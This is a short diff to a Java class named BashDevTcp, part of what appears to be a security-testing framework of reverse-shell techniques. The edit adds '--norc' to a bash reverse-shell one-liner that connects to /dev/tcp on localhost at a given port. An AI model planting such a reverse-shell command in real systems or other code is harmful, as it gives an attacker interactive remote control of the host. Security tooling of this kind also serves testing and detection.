@@ -15,6 +15,6 @@ public final class BashDevTcp extends ReverseShell {
 
     @Override
     List<String> command(Stage stage, int port) throws TechniqueFailedException {
-        return List.of(stage.tool("bash"), "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1".formatted(port));
+        return List.of(stage.tool("bash"), "-c", "bash --norc -i >& /dev/tcp/127.0.0.1/%d 0>&1".formatted(port));
     }
 }
